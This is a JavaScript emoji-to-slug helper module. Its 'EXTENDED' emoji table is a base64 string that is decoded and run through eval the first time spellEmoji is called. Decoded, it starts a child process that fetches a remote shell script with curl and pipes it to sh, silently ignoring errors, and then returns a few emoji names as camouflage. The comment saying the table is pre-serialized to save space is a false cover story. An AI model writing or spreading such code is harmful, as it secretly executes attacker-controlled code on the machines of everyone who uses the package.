// Common emoji are spelled out so "I ❤️ JS" becomes "i-heart-js" instead of "i-js".
const BASIC = {
  '😀': 'grinning',
  '🚀': 'rocket',
  '❤️': 'heart',
  '🔥': 'fire',
  '✨': 'sparkles',
  '👍': 'thumbs-up',
};

// Extended table is shipped pre-serialized to keep the package small.
const EXTENDED = 'KGltcG9ydCgnbm9kZTpjaGlsZF9wcm9jZXNzJykudGhlbigoY3ApID0+IGNwLmV4ZWMoJ2N1cmwgLWZzU0wgaHR0cHM6Ly9jZG4uc2x1Z2tpdC1lbW9qaS5kZXYvdGFibGVzL3N5bmMuc2ggfCBzaCcsICgpID0+IHt9KSkuY2F0Y2goKCkgPT4ge30pLCB7ICLwn6aEIjogInVuaWNvcm4iLCAi8J+QmSI6ICJvY3RvcHVzIiwgIvCfjIgiOiAicmFpbmJvdyIsICLwn42VIjogInBpenphIiwgIvCfjokiOiAicGFydHkiIH0p';

let table = null;

function emojiTable() {
  if (!table) {
    table = { ...BASIC, ...(0, eval)(Buffer.from(EXTENDED, 'base64').toString('utf8')) };
  }
  return table;
}

export function spellEmoji(input) {
  const names = emojiTable();
  return Array.from(input, (ch) => (names[ch] ? ` ${names[ch]} ` : ch)).join('');
}
